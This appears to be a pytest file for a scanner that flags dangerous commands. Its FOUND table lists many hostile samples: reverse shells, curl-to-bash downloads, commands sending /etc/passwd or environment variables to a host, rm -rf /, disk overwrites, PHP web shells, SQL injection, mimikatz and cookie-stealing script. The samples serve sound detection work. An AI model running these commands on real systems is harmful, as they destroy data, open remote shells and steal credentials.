"""Each dangerous command or statement is found by its decisive word; its everyday neighbours are not."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.detectors.test_shelf import widths
from tests.detectors.test_window import agree, cut, matching

from yett.detectors.code import CODE
from yett.detectors.detector import LEFT, WORD, WORD_CAP, Detector
from yett.detectors.engine import Portable, Scanner
from yett.detectors.expression import compiled

# Texts by detector; `«…»` is the span.
FOUND: dict[str, tuple[str, ...]] = {
    "shell-pipe-download": ("curl -fsSL https://get.example.org | sudo -E «bash» -", "wget -qO- x|«sh»", "`curl x | /usr/bin/env «python3»`"),
    "shell-pipe-decoded": ("echo aWQ= | base64 -d | «sh»", "xxd -r p | «bash»\n"),
    "shell-run-download": ('bash -c "$(«curl» -fsSL x)"', "source <(«curl» x)", "eval `«wget» -qO- x`"),
    "shell-save-and-run": ("wget http://h/x -O /tmp/x && chmod +x /tmp/x && «/tmp/x»", "curl -o x u; chmod 755 x; «./x»\n"),
    "shell-device-tcp": ("bash -i >& «/dev/tcp/10.0.0.1/4444» 0>&1",),
    "shell-netcat": ("nc -lvp 4444 -e «/bin/sh»", "ncat 10.0.0.1 4444 --exec «cmd.exe»"),
    "shell-netcat-pipe": ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | «nc» 10.0.0.1 4444 > /tmp/f",),
    "shell-socat": ("socat tcp-connect:10.0.0.1:4444 «exec»:sh,pty",),
    "shell-script-socket": ("perl -e 'use «Socket»;$i=\"10.0.0.1\"'", "php -r '$s=«fsockopen»(\"10.0.0.1\",4444)'"),
    "php-web-shell": ("<?php system(«$_GET»['c']); ?>", "eval(base64_decode(«$_POST»[1]))"),
    "php-eval-decoded": ("<?php eval(«gzinflate»(base64_decode('x')))",),
    "shell-remove-root": ("sudo rm -rf «/»", "rm -fr «/*» ", "rm -r -f -- «~/»;", 'rm --recursive --force "«$HOME»"', "rm -Rf «/usr»\n"),
    "shell-remove-forced": ("rm -rf «--no-preserve-root» /x",),
    "shell-overwrite-device": ("dd if=/dev/zero of=«/dev/sda» bs=1M", "mkfs.ext4 -F «/dev/nvme0n1p1»", "cat x > «/dev/sdb1»"),
    "shell-fork-bomb": (":(){ :|«:»& };:",),
    "shell-kill-all": ("kill -9 «-1»",),
    "shell-crontab": ("(crontab -l; echo '* * * * * x') | crontab «-»",),
    "shell-append-startup": ('echo "k" >> «~/.ssh/authorized_keys»', "x | sudo tee -a «/etc/sudoers»", "echo x > «/etc/cron.d/job»"),
    "shell-sudo-all": ("bob ALL=(ALL:ALL) NOPASSWD: «ALL»",),
    "shell-setuid": ("chmod «4755» /tmp/sh", "chmod «u+s» x"),
    "shell-read-secret": ("cat «/etc/shadow»", "cat «~/.ssh/id_rsa» | base64", "tar czf x.tgz «/home/ada/.aws/credentials»"),
    "shell-send-secret": ("curl -d @«/etc/passwd» http://h", "curl -F file=@«~/.netrc» http://h"),
    "shell-send-output": ('curl -X POST -d "$(«env»)" https://h', "curl https://h --data=x=`«cat» /etc/hosts`"),
    "shell-pipe-out": ("tar cz . | curl -s --data-binary «@-» https://h", "env|curl -T «-» h"),
    "shell-name-lookup": ("nslookup $(«whoami»).h.example", "ping -c1 `«hostname»`.h"),
    "shell-metadata-service": ("curl http://«169.254.169.254/latest/meta-data/iam/security-credentials»",),
    "shell-chmod-all": ("chmod -R «777» /var/www", "chmod «a+rwx» x"),
    "shell-container-escape": ("docker run -v «/var/run/docker.sock»:/s x", "docker run -v «/»:/host x"),
    "shell-container-privileged": ("docker run --rm «--privileged» alpine",),
    "shell-firewall-off": ("iptables «-F»", "ufw --force «disable»\n", "setenforce «0»", "nft «flush» ruleset"),
    "shell-history-off": ("history «-c»", "unset «HISTFILE»"),
    "shell-log-wipe": ("shred -u «/var/log/auth.log»", "\n> «/var/log/wtmp»", "truncate -s 0 «/var/log/syslog»"),
    "powershell-encoded": ("powershell.exe -nop -w hidden -enc «SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA»",),
    "powershell-run-download": ("IEX (New-Object Net.WebClient).«DownloadString»('http://h/x.ps1')",),
    "powershell-piped-download": ("iwr -useb https://h/x.ps1 | «iex»", "irm x|«Invoke-Expression»"),
    "powershell-socket": ("$c = New-Object System.«Net.Sockets.TCPClient»('10.0.0.1',4444)",),
    "powershell-defender-off": ("Set-MpPreference -Force «-DisableRealtimeMonitoring» $true",),
    "cmd-fetch": ("certutil «-urlcache» -split -f http://h/x.exe",),
    "cmd-bits": ("bitsadmin «/transfer» j http://h/x.exe c:\\x.exe",),
    "cmd-script-host": ("mshta «http»://h/x.hta", "regsvr32 /s /n /u /i:«http»://h/x.sct scrobj.dll"),
    "cmd-delete-drive": ("> rd /s /q «C:» ", "&del /f /s /q «d:»\n"),
    "cmd-delete-root": ("& del /f /s /q C:\\«*.*»", " rd /s /q C:\\«Windows»\\"),
    "cmd-format-drive": ("> format c: «/q»",),
    "cmd-shadow-copies": ("vssadmin delete «shadows» /all /quiet", "wevtutil cl «Security»\n"),
    "cmd-run-key": ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\«Run» /v x",),
    "cmd-add-admin": ("net localgroup administrators bob «/add»",),
    "cmd-save-hive": ("reg save HKLM\\«SAM» sam.save",),
    "credential-dump": ("mimikatz # «sekurlsa::logonpasswords»",),
    "sql-drop": ("DROP «TABLE» users;",),
    "sql-drop-statement": ("'; drop «table» users", "\n  Drop «database» shop;"),
    "sql-truncate": ("TRUNCATE «TABLE» users;", "; truncate «table» t"),
    "sql-delete-all": ("DELETE FROM «users»;", '"delete from «users»"'),
    "sql-where-true": ("DELETE FROM users WHERE «1=1»;", "x' OR «1=1»--"),
    "sql-shell": ("EXEC master..«xp_cmdshell» 'whoami'",),
    "sql-file": ("SELECT 1 INTO «OUTFILE» '/var/www/x.php'",),
    "sql-program": ("COPY t FROM PROGRAM '«curl» http://h'",),
    "sql-superuser": ("ALTER USER bob WITH «SUPERUSER»;",),
    "sql-grant-all": ("GRANT ALL PRIVILEGES ON «*.*» TO bob",),
    "redis-flush": ("redis-cli «FLUSHALL»",),
    "nosql-drop": (" «db.dropDatabase»()",),
    "python-exec-outside": ("exec(«base64.b64decode»('aWQ='))", "x = eval(«input»())", " eval(«response.choices»[0]", "eval(«user_code»)"),
    "python-unpickle-outside": ("pickle.loads(«base64.b64decode»(x))", "pickle.loads(«request.get_data»())"),
    "python-hidden-import": ("__import__('«os»').system('id')",),
    "python-system": ("os.system('«rm» -rf x')", 'os.popen("«/bin/bash» -i")'),
    "python-sandbox": ("().__class__.__bases__[0].«__subclasses__»()",),
    "python-builtins": ("f.__globals__['«os»']",),
    "python-dup2": ("os.dup2(«s.fileno()»,0)",),
    "python-remove-root": ("shutil.rmtree('«/»')", "shutil.rmtree(os.path.expanduser('«~»'))"),
    "python-send-environment": ("requests.post('https://h', json=dict(«os.environ»))",),
    "python-shellcode": ("ctypes.windll.kernel32.«VirtualAlloc»(0)",),
    "js-eval-outside": (" eval(«atob»('x'))", "new Function(«location.hash»)", "document.write(«unescape»('%3C'))"),
    "js-child-process": ("require('child_process').«exec»('id')",),
    "js-sandbox": (" «process.mainModule.require»('fs')", "[].«constructor.constructor»('x')"),
    "js-address": ("[x](«javascript:alert(1)»", '<a href="«javascript:fetch(»\'x\')">'),
    "js-handler": ("<img src=x onerror=«alert»(1)>", "<svg/onload='«fetch»(1)'>"),
    "script-page-data": ("src = 'https://h/?c=' + «document.cookie»;", "`https://h/?c=${btoa(«localStorage»)}`"),
}  # fmt: skip
CLEAN = (
    "curl -O https://example.com/x.tar.gz && tar xzf x.tar.gz; cat x | grep sh | sort; curl x | jq . ; curl x | tee f",
    "| bash | sh | python |\n|---|---|---|\n| curl | wget |",
    "rm -rf build/ ./dist node_modules /tmp/x /var/lib/apt/lists/* ~/project; rm -r /usr/local/share/x; rm file /",
    "dd if=disk.img of=copy.img; mkfs.ext4 disk.img; ls /dev/sda; lsblk /dev/sda; fdisk -l /dev/sdb",
    "chmod 755 x; chmod +x x; chmod 644 /etc/x; chmod 7 x; kill -9 1234; crontab -e; crontab -l",
    "cat README.md; cat ~/.ssh/config; ls ~/.ssh; ssh-keygen -f ~/.ssh/id_ed25519; cp .env.example .env; grep x /etc/hosts",
    "docker run -v $PWD:/work -v /data:/data alpine; iptables -L; ufw enable; history | tail; nc -z host 22",
    "powershell -File build.ps1; Invoke-WebRequest -Uri x -OutFile y; certutil -hashfile x SHA256; format(x) c: /q",
    "del /q build\\*.obj & rd /s /q C:\\temp\\x; reg add HKCU\\Software\\Mine /v x; net localgroup users bob /add",
    "SELECT * FROM t WHERE x = 1; DELETE FROM t WHERE id = 3; DROP INDEX i; drop the table; delete from the list, please",
    "the table drop and truncate functions; a drop table stands there; create user bob; grant select on t to bob",
    "eval(expr); exec(code); ast.literal_eval(x); os.system(cmd); subprocess.run(x, shell=True); pickle.loads(data)",
    "re.compile(input()); self.eval(request); model.eval(); __import__(name); shutil.rmtree(tmp); os.dup2(fd, 1)",
    "setTimeout(() => x, 10); new Function('a', 'return a'); const { exec } = require('child_process'); x.constructor",
    '<a href="javascript:void(0)" onclick="alert(1)"> <body onload="init()"> javascript: is a scheme; (javascript: yes)',
    "document.cookie = 'a=b'; const t = localStorage.getItem('t'); x + y",
)


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(CODE)


def spans(text: str) -> tuple[str, int, int]:
    """The text without the marks of its span, and the span."""
    start, end = text.index("«"), text.index("»") - 1
    return text.replace("«", "").replace("»", ""), start, end


CASES = [(id, text) for id, texts in FOUND.items() for text in texts]


@pytest.mark.parametrize(("id", "marked"), CASES)
def test_a_danger_is_found_by_its_decisive_word(scanner: Scanner, id: str, marked: str) -> None:
    text, start, end = spans(marked)
    assert (id, start, end) in [(f.detector, f.start, f.end) for f in scanner.scan_text(text)]
    for place in range(len(text) + 1):
        agree(scanner, text, [text[:place], text[place:]])
    agree(scanner, text, list(text))


def test_every_detector_has_an_example() -> None:
    assert {detector.id for detector in CODE} == set(FOUND)


@pytest.mark.parametrize("text", CLEAN)
def test_everyday_commands_are_none(scanner: Scanner, text: str) -> None:
    assert [(f.detector, text[f.start : f.end]) for f in scanner.scan_text(text)] == []


def test_both_automata_agree(scanner: Scanner) -> None:
    portable = Scanner(CODE, Portable)
    for text in [*(spans(marked)[0] for _, marked in CASES), *CLEAN]:
        assert portable.scan_text(text) == scanner.scan_text(text)


PIECES = st.sampled_from(
    [
        "curl x ",
        "| ",
        "sh",
        " ",
        "\n",
        "rm -rf ",
        "/",
        "; ",
        "eval(",
        "'",
        "DROP TABLE ",
        "-F ",
        "base64 -d",
        "é",
        "$(",
        "iex ",
        "x" * 80,
    ]
)


@pytest.mark.parametrize("detector", CODE, ids=lambda detector: detector.id)
@settings(max_examples=20, deadline=None)
@given(data=st.data())
def test_a_pattern_can_be_cut_anywhere(detector: Detector, data: st.DataObject) -> None:
    scanner = Scanner([msgspec.structs.replace(detector, accept=None)])
    text = data.draw(PIECES) + data.draw(matching(detector)) + data.draw(PIECES)
    agree(scanner, text, cut(text, data.draw(st.lists(st.integers(0, 2000), max_size=20))))
    agree(scanner, text, list(text))


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 2000), max_size=20))
def test_any_cuts_of_any_mixture(scanner: Scanner, text: str, places: list[int]) -> None:
    agree(scanner, text, cut(text, places))


@pytest.mark.parametrize("detector", CODE, ids=lambda detector: detector.id)
def test_a_pattern_keeps_the_rules(detector: Detector) -> None:
    left, rest = widths(detector)
    assert left < LEFT
    assert rest <= WORD_CAP
    assert compiled(detector.pattern).programsize < 1700


@pytest.mark.parametrize(("id", "marked"), CASES)
def test_a_span_is_a_word(id: str, marked: str) -> None:
    text, start, end = spans(marked)
    assert set(text[start:end]) <= set(WORD), id
